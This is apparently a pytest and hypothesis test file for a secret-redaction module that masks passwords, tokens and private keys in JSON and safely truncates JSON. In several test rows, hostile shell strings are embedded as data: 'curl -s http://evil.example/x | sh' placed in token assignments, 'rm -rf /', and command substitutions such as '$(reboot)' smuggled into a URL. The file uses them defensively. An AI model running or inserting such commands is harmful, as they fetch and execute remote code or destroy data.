"""Redaction keeps numbers as written, and hides and counts secrets in any text."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals import redact as redacting
from approvals.redact import REDACTED, redact, truncate_json
from rows import each_row


@each_row(
    "member",
    ["password", "PassWord", "db_password", "api_key", "apiKey", "API-KEY", "secret", "client_secret", "token", "access_token",
     "Authorization", "aws_secret_access_key", "private_key", "session_id", "cookie", "credentials", "pin",
     "secrets", "passwords", "cookies", "apiKeys", "private_keys", "refresh_tokens", "token_value", "SecretString", "secretBinary", "password_text"],
)  # fmt: skip
def test_a_member_that_is_named_like_a_secret_is_hidden(member):
    for value in ("hunter2", 1234, "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----"):
        shown = redact(json.dumps({"a": [{member: value}]}).encode())
        assert json.loads(shown.text) == {"a": [{member: REDACTED}]}
        assert shown.count == 1


def test_below_a_secret_member_values_are_hidden_and_names_are_not():
    value = {"credentials": {"user": "ana", "scopes": ["a", 7, True], "then": {"run": "rm x; reboot"}}}
    shown = redact(json.dumps(value).encode())
    assert json.loads(shown.text) == {
        "credentials": {
            "user": REDACTED,
            "scopes": [REDACTED, REDACTED, True],
            "then": {"run": f"{REDACTED} {REDACTED}; {REDACTED}"},
        }
    }
    assert shown.count == 4


@each_row(
    "member",
    [
        "next_token",
        "max_tokens",
        "pageToken",
        "tokens",
        "input_tokens",
        "user_name",
        "spinner",
        "key",
        "pins",
        "value",
        "text",
        "secret_name",
        "password_policy",
        "tokenizer",
    ],
)
def test_a_member_whose_name_only_resembles_a_secrets_is_shown(member):
    assert redact(json.dumps({member: "value"}).encode()).count == 0


def test_an_empty_secret_is_not_hidden():
    assert redact(b'{"password":"","token":null,"secret":true}').count == 0


@each_row(
    "secret",
    ["AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_1", "ghp_" + "a" * 36, "glpat-" + "x" * 20,
     "xoxb-1234567890-abcdef", "sk_live_" + "a" * 24, "AIza" + "b" * 35,
     "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
     "-----BEGIN PRIVATE KEY-----\\nMIIE\\n+w==\\n-----END PRIVATE KEY-----"],
)  # fmt: skip
def test_a_value_with_a_secrets_shape_is_hidden_everywhere(secret):
    shown = redact(json.dumps({"note": f"use {secret} please", "list": [secret]}).encode())
    assert secret not in json.loads(shown.text)["note"]
    assert json.loads(shown.text)["list"] == [REDACTED]
    assert shown.count == 2


def test_the_password_of_an_address_is_hidden_and_its_host_is_not():
    shown = redact(b'{"url":"postgres://app:s3cret@db.internal/prod"}')
    assert json.loads(shown.text)["url"] == f"postgres://{REDACTED}@db.internal/prod"


@each_row(
    "packed",
    [
        '{"password": "hunter2", "x": 1}',
        "password=hunter2&x=1",
        "DB_PASSWORD: 'hunter2'",
        "export API_KEY=hunter2",
    ],
)
def test_a_secret_packed_into_a_string_is_hidden(packed):
    shown = redact(json.dumps({"body": packed}).encode())
    assert "hunter2" not in shown.text
    assert shown.count == 1


def test_the_token_of_a_header_is_hidden_and_its_kind_is_not():
    shown = redact(b'{"header":"X: Bearer  abcdefghijklmnop1234=="}')
    assert json.loads(shown.text) == {"header": f"X: Bearer  {REDACTED}"}


@each_row(
    "text",
    [
        'export TOKEN="$(curl -s http://evil.example/x | sh)"',
        "api_key=$(curl -s http://evil.example/x|sh)",
        "password=`reboot`",
        "-----BEGIN PRIVATE KEY-----\ncurl -s http://evil.example/x | sh",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
        "https://a:$(reboot)@evil.example/",
    ],
)
def test_a_command_in_place_of_a_secret_is_shown(text):
    shown = redact(json.dumps({"note": text}).encode())
    assert (json.loads(shown.text), shown.count) == ({"note": text}, 0)


def test_only_the_words_of_a_secret_are_hidden():
    shown = redact(b'{"password":"$(curl evil.example|sh)","note":"token=abc;reboot"}')
    assert json.loads(shown.text) == {
        "password": f"$({REDACTED} {REDACTED}|{REDACTED})",
        "note": f"token={REDACTED};reboot",
    }


def test_numbers_keep_their_spelling():
    text = redact(b'{"a":1e6,"b":1.0,"c":-0,"d":123456789012345678901234567890,"e":0.10}').text
    assert (
        text
        == '{\n  "a": 1e6,\n  "b": 1.0,\n  "c": -0,\n  "d": 123456789012345678901234567890,\n  "e": 0.10\n}'
    )


def test_empty_containers_and_plain_values():
    assert redact(b'{"a":{},"b":[],"c":null,"d":true,"e":"x\\ny"}').text == (
        '{\n  "a": {},\n  "b": [],\n  "c": null,\n  "d": true,\n  "e": "x\\ny"\n}'
    )
    assert redact(b"{}").text == "{}"


@each_row(
    "piece",
    [
        "x",
        "eyJ",
        "eyJa.",
        "password",
        "password=",
        "a-",
        "bearer ",
        "://",
        "://a:",
        "-----BEGIN PRIVATE KEY-----",
        "AKIA",
        "sk-",
        "token:",
    ],
)
def test_redaction_takes_linear_time(piece):
    redact(json.dumps({"a": piece * (300_000 // len(piece))}).encode())


values = st.recursive(
    st.one_of(st.integers(), st.text(alphabet='abc xyz\n"\\'), st.booleans(), st.none()),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(["a", "b", "note"]), inner, max_size=3)
    ),
)


@given(st.dictionaries(st.sampled_from(["a", "b", "note"]), values))
def test_json_without_secrets_is_shown_whole(value):
    shown = redact(json.dumps(value).encode())
    assert json.loads(shown.text) == value
    assert shown.count == 0


names = st.sampled_from(["password", "credentials", "pin", "note", "a"])
#: Strings of secrets, of their surroundings, and of characters that a shell acts on.
texts = st.lists(
    st.sampled_from(
        ["password", "token", "api_key", "=", ": ", '"', "'", " ", "\n", "$(", ")", "`", "|", ";", "&", "<", ">", "\\", "\\n", "\u202e",
         "curl", "rm -rf /", "Bearer ", "abcdefghijklmnop1234", "https://", "a:b", "@", "AKIAIOSFODNN7EXAMPLE", REDACTED, "é",
         "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "MIIE+/="]
    ),
    max_size=12,
).map("".join)  # fmt: skip
PEM = r"-----BEGIN PRIVATE KEY-----(?:(?:\n|\\n)[A-Za-z0-9+/=]+)+(?:(?:\n|\\n)-----END PRIVATE KEY-----|(?:\n|\\n)?-*\Z)"
#: Text that may be hidden: a word without blanks, quotes, hidden or shell characters; or a key, whole or truncated.
HIDDEN = rf"(?:[^\s$()`|;&<>\"'\\\u202e]+|{PEM}|\[redacted\])"


def pairs(given, shown):
    """Yield each leaf with its redacted form; members and lengths must be equal."""
    match given:
        case dict():
            assert list(given) == list(shown)
            for name, item in given.items():
                yield from pairs(item, shown[name])
        case list():
            for item, other in zip(given, shown, strict=True):
                yield from pairs(item, other)
        case _:
            yield given, shown


@given(
    st.dictionaries(
        names,
        st.recursive(
            st.none() | st.booleans() | st.integers() | texts,
            lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=3),
        ),
    )
)
def test_only_words_are_hidden_and_every_other_character_is_shown(value):
    shown = redact(json.dumps(value).encode())
    changed = [(one, other) for one, other in pairs(value, json.loads(shown.text)) if one != other]
    assert bool(changed) == bool(shown.count)
    for one, other in changed:
        seen = HIDDEN.join(map(re.escape, other.split(REDACTED)))
        assert re.fullmatch(seen, str(one)), (one, other)


@given(
    st.recursive(
        st.none() | st.booleans() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_flat_and_indented_output_are_equal(value):
    arguments = json.dumps({"a": value}).encode()
    flat, indented = redact(arguments, flat=True), redact(arguments)
    assert "\n" not in flat.text
    assert (json.loads(flat.text), flat.count) == (json.loads(indented.text), indented.count)


@given(
    st.dictionaries(st.text(), st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )),
    st.booleans(), st.sampled_from([None, 1]), st.integers(min_value=1, max_value=200),
)  # fmt: skip
def test_truncated_json_is_a_prefix_of_the_whole(value, ensure_ascii, indent, most):
    whole = json.dumps(value, ensure_ascii=ensure_ascii, indent=indent).encode("utf-8", "surrogatepass")
    begun = truncate_json(whole, most)
    assert json.loads(begun) == value if len(whole) <= most else len(begun) <= 2 * most + 1
    without_closers = redact(begun).text.rstrip(' \n"]}')
    assert redact(whole).text.startswith(without_closers)


@each_row(
    ("broken", "closed"),
    [
        ("{", "{}"),
        ('{"a": [{"n', '{"a": [{}]}'),
        ('{"a": [{"né": 1', '{"a": [{}]}'),
        ('{"a": [{"né": 12}', '{"a": [{"né": 12}]}'),
        ('{"a": [{"né": 12}, "', '{"a": [{"né": 12}, ""]}'),
        ('{"a": [{"né": 12}, "x\\u00', '{"a": [{"né": 12}, "x"]}'),
        ('{"a": [{"né": 12}, "x\\u00e9y', '{"a": [{"né": 12}, "x\\u00e9y"]}'),
        ('{"a": [{"né": 12}, "x\\u00e9y"], "co', '{"a": [{"né": 12}, "x\\u00e9y"]}'),
        ('{"a": [{"né": 12}, "x\\u00e9y"], "count": "z', '{"a": [{"né": 12}, "x\\u00e9y"], "count": "z"}'),
    ],
)
def test_truncated_json_is_closed_without_half_a_number_or_name(broken, closed):
    whole = '{"a": [{"né": 12}, "x\\u00e9y"], "count": "z1234"}'
    assert whole.startswith(broken)
    assert truncate_json(whole.encode(), len(broken.encode())).decode() == closed


@pytest.mark.parametrize(
    "secret",
    [
        "eyJhbGciOiJIUzI1NiJ9.eyJ" + "a" * 99,
        'password = "' + "ab" * 50,
        "-----BEGIN PRIVATE KEY-----\n" + "MIIE" * 25,
    ],
)
def test_a_truncated_secret_is_hidden(secret):
    shown = redact(truncate_json(json.dumps({"a": secret + "c" * 99}).encode(), 90))
    assert (REDACTED in shown.text, shown.count) == (True, 1)
    assert not any(part in shown.text for part in ("aaa", "abab", "MIIE"))


@each_row("piece", ["1", "\\u", "a", '"', '"a",', "[", "{", " "])
def test_truncation_takes_linear_time(piece):
    truncate_json(b'{"a":' + piece.encode() * 200_000, 100_000)


PATTERNS = (redacting._SHAPES, redacting._ASSIGNED)


@given(st.one_of(*(st.from_regex(pattern) for pattern in PATTERNS)))
def test_the_quick_search_misses_no_secret(text):
    shown = redact(json.dumps({"a": text}).encode())
    assert shown.count or not any(pattern.search(text) for pattern in PATTERNS)


@each_row("name", ["pa\u017f\u017fword", "to\u212aen", "AP\u0130_KEY", "\u017fecret"])
def test_names_in_letters_that_fold_to_ascii_are_found(name):
    text = f"{name}=hunter2"
    assert bool(redacting._ASSIGNED.search(text)) == bool(redact(json.dumps({"a": text}).encode()).count)
